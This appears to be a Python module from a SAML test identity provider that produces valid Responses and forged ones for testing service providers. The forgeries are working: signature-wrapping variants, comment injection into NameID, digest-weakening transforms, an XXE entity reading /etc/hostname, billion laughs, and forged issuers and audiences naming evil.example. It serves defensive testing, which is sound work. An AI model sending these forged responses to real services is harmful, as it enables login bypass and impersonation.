"""Every Response variant the test IdP emits: the valid ones, and attacks made from a valid document.

Each function returns the Response as XML text. An attack starts from what pysaml2 would send and
changes exactly the thing its name says, so a service provider that accepts it has exactly that bug.
"""
import copy
import secrets

import xml.etree.ElementTree as ET

from builder import (ASSERTION, RESPONSE, RSA_15, RSA_OAEP, adjust, encrypt_assertion, parse, q, server, sign,
                     text, unsigned_response)
from saml2 import samlp
from saml2.s_utils import error_status_factory
from saml2.xmldsig import DIGEST_SHA1, SIG_RSA_SHA1

EVIL_NAME_ID = "admin@evil.example"
EVIL_URL = "https://evil.example/saml"
WITH_COMMENTS = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"


def produce(job, variant):
    if variant not in VARIANTS:
        raise ValueError("unknown variant %r; known: %s" % (variant, ", ".join(sorted(VARIANTS))))
    return VARIANTS[variant](job)


def ids(root):
    assertion = root.find(q("saml", "Assertion"))
    return root.get("ID"), assertion.get("ID") if assertion is not None else None


def signed(job, mode="assertion", root=None, key=None, cert=None, **algorithms):
    """The job's response with its assertion and/or the response signed (mode: assertion|response|both|none)."""
    root = root if root is not None else unsigned_response(job)
    key, cert = key or job["signingKey"], cert or job["signingCert"]
    response_id, assertion_id = ids(root)
    xml = text(root)
    if mode in ("assertion", "both"):
        xml = sign(xml, assertion_id, key, cert, ASSERTION, **algorithms)
    if mode in ("response", "both"):
        xml = sign(xml, response_id, key, cert, RESPONSE, **algorithms)
    return xml


def job_mode(job, default="assertion"):
    return job.get("sign", default)


def evil_copy(assertion, job):
    """An unsigned copy of the assertion naming someone else, with a fresh ID."""
    evil = copy.deepcopy(assertion)
    signature = evil.find(q("ds", "Signature"))
    if signature is not None:
        evil.remove(signature)
    evil.set("ID", "_evil" + secrets.token_hex(16))
    evil.find(q("saml", "Subject")).find(q("saml", "NameID")).text = job.get("evilNameId", EVIL_NAME_ID)
    return evil


# --- valid ---------------------------------------------------------------------------------------

def encrypted(job, data_algorithm, key_transport=RSA_OAEP):
    root = unsigned_response(job)
    assertion = root.find(q("saml", "Assertion"))
    assertion_xml = sign(text(assertion), assertion.get("ID"), job["signingKey"], job["signingCert"], ASSERTION)
    return encrypt_assertion(text(root), assertion_xml, job["spEncryptionCert"], data_algorithm,
                             key_transport)


# --- signature wrapping --------------------------------------------------------------------------

def evil_beside(job, before):
    root = parse(signed(job))
    original = root.find(q("saml", "Assertion"))
    index = list(root).index(original)
    root.insert(index if before else index + 1, evil_copy(original, job))
    return text(root)


def xsw_wrap(job):
    """The evil assertion wraps the signed original inside it (last child)."""
    root = parse(signed(job))
    original = root.find(q("saml", "Assertion"))
    index = list(root).index(original)
    evil = evil_copy(original, job)
    root.remove(original)
    evil.append(original)
    root.insert(index, evil)
    return text(root)


def xsw_signature_in_extensions(job):
    """XSW7: the original (its digest unchanged) goes into samlp:Extensions; the evil assertion carries
    the original's still-valid Signature, whose Reference points at the original."""
    root = parse(signed(job))
    original = root.find(q("saml", "Assertion"))
    index = list(root).index(original)
    signature = original.find(q("ds", "Signature"))
    evil = evil_copy(original, job)
    original.remove(signature)
    evil.insert(1, signature)
    root.remove(original)
    extensions = ET.Element(q("samlp", "Extensions"))
    extensions.append(original)
    root.insert(index, evil)
    root.insert(1, extensions)
    return text(root)


def xsw_response_wrap(job):
    """XSW2: a new evil Response carries the original Response's Signature, and the original Response
    (without that signature, so its digest still matches) as a child right after the signature."""
    original = parse(signed(job, "response"))
    signature = original.find(q("ds", "Signature"))
    original.remove(signature)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil" + secrets.token_hex(16))
    evil_assertion = evil.find(q("saml", "Assertion"))
    evil.remove(evil_assertion)
    evil.append(evil_copy(evil_assertion, job))
    evil.insert(1, signature)
    evil.insert(2, original)
    return text(evil)


# --- keys and signatures -------------------------------------------------------------------------

def two_assertions(job):
    root = unsigned_response(job)
    first = root.find(q("saml", "Assertion"))
    second = copy.deepcopy(first)
    second.set("ID", "_second" + secrets.token_hex(16))
    root.append(second)
    xml = sign(text(root), first.get("ID"), job["signingKey"], job["signingCert"])
    return sign(xml, second.get("ID"), job["signingKey"], job["signingCert"])


def tampered(job):
    root = parse(signed(job, job_mode(job)))
    assertion = root.find(q("saml", "Assertion"))
    if job.get("tamper", "nameId") == "attribute":
        value = assertion.find(".//" + q("saml", "AttributeValue"))
        value.text = job.get("evilAttributeValue", "admins")
    else:
        assertion.find(q("saml", "Subject")).find(q("saml", "NameID")).text = job.get("evilNameId", EVIL_NAME_ID)
    return text(root)


def comment_injection(job):
    """NameID nameId+suffix is signed, then a comment splits it so a naive reader sees only nameId."""
    suffix = job.get("commentSuffix", ".evil.com")
    whole = job["nameId"] + suffix
    xml = signed(dict(job, nameId=whole), job_mode(job))
    marker = ">%s</" % whole
    if xml.count(marker) != 1:
        raise ValueError("NameID not found once in the signed document")
    return xml.replace(marker, ">%s<!---->%s</" % (job["nameId"], suffix))


def bad_transform(job):
    """The Reference's exc-c14n transform replaced by inclusive c14n WithComments (still a valid signature)."""
    def edit(signature):
        transform = signature.findall(".//" + q("ds", "Transform"))[1]
        transform.set("Algorithm", WITH_COMMENTS)
    return signed_with(job, edit)


def bad_transform_xpath(job):
    """An extra XPath transform that keeps the NameID out of the digest (still a valid signature)."""
    def edit(signature):
        transforms = signature.find(".//" + q("ds", "Transforms"))
        transform = ET.SubElement(transforms, q("ds", "Transform"), {"Algorithm": XPATH})
        path = ET.SubElement(transform, q("ds", "XPath"))
        path.text = "not(ancestor-or-self::*[local-name()='NameID'])"
    return signed_with(job, edit)


def signed_with(job, edit):
    root = unsigned_response(job)
    _, assertion_id = ids(root)
    return sign(text(root), assertion_id, job["signingKey"], job["signingCert"], ASSERTION, edit_template=edit)


# --- document type declarations ------------------------------------------------------------------

def with_doctype(job, subset, replace_name_id=None):
    xml = signed(job, job_mode(job))
    if replace_name_id:
        xml = xml.replace(">%s</" % job["nameId"], ">%s</" % replace_name_id, 1)
    body = xml[xml.index("?>") + 2:].lstrip() if xml.startswith("<?xml") else xml
    return '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE samlp:Response [%s]>\n%s' % (subset, body)


def billion_laughs(job):
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        previous = "lol" if level == 1 else "lol%d" % (level - 1)
        entities.append('<!ENTITY lol%d "%s">' % (level, ("&%s;" % previous) * 10))
    return with_doctype(job, "".join(entities), "&lol9;")


# --- message checks ------------------------------------------------------------------------------

def status_failure(job):
    """A signed Response with status Responder/AuthnFailed and no assertion."""
    response = ET.fromstring(str(_failure(job)))
    adjust(response, job)
    return sign(text(response), response.get("ID"), job["signingKey"], job["signingCert"], RESPONSE)


def _failure(job):
    idp = server(job)
    status = error_status_factory((samlp.STATUS_AUTHN_FAILED, "authentication failed"))  # Responder / AuthnFailed
    return idp._status_response(samlp.Response, idp._issuer(), status, sign=False,
                                in_response_to=job.get("inResponseTo"), destination=job["acsUrl"])


def signed_root(job, overrides):
    return signed(job, job_mode(job), root=unsigned_response(job, **overrides))


def with_times(**offsets):
    return lambda job: signed(dict(job, **offsets), job_mode(job))


VARIANTS = {
    "valid-signed-assertion": lambda job: signed(job, "assertion"),
    "valid-signed-response": lambda job: signed(job, "response"),
    "valid-both-signed": lambda job: signed(job, "both"),
    "valid-encrypted": lambda job: encrypted(job, job.get("dataAlgorithm", "aes256-gcm")),
    "valid-encrypted-cbc": lambda job: encrypted(job, job.get("dataAlgorithm", "aes128-cbc")),
    "xsw-evil-before": lambda job: evil_beside(job, True),
    "xsw-evil-after": lambda job: evil_beside(job, False),
    "xsw-evil-beside": lambda job: evil_beside(job, False),
    "xsw-wrap": xsw_wrap,
    "xsw-signature-in-extensions": xsw_signature_in_extensions,
    "xsw-response-wrap": xsw_response_wrap,
    "two-assertions": two_assertions,
    "unsigned": lambda job: signed(job, "none"),
    "foreign-key": lambda job: signed(job, job_mode(job), key=job["foreignKey"], cert=job["foreignCert"]),
    "other-idp-key": lambda job: signed(job, job_mode(job), key=job["otherKey"], cert=job["otherCert"]),
    "tampered": tampered,
    "comment-injection": comment_injection,
    "doctype": lambda job: with_doctype(job, '<!ENTITY harmless "x">'),
    "xxe": lambda job: with_doctype(
        job, '<!ENTITY xxe SYSTEM "%s">' % job.get("xxeUrl", "file:///etc/hostname"), "&xxe;"),
    "billion-laughs": billion_laughs,
    "sha1": lambda job: signed(job, job_mode(job), sign_alg=SIG_RSA_SHA1, digest_alg=DIGEST_SHA1),
    "rsa15": lambda job: encrypted(job, job.get("dataAlgorithm", "aes256-gcm"), RSA_15),
    "bad-transform": bad_transform,
    "bad-transform-xpath": bad_transform_xpath,
    "wrong-issuer": lambda job: signed_root(job, {"issuer": job.get("evilIssuer", EVIL_URL + "/idp")}),
    "wrong-audience": lambda job: signed(dict(job, audience=job.get("evilAudience", EVIL_URL + "/sp")), job_mode(job)),
    "wrong-recipient": lambda job: signed(dict(job, recipient=EVIL_URL + "/acs"), job_mode(job)),
    "wrong-destination": lambda job: signed_root(job, {"destination": EVIL_URL + "/acs"}),
    "expired": with_times(issueInstantOffset=-3600, notBeforeOffset=-3600, notOnOrAfterOffset=-1800),
    "not-yet-valid": with_times(issueInstantOffset=1800, notBeforeOffset=1800, notOnOrAfterOffset=3600),
    "status-failure": status_failure,
}
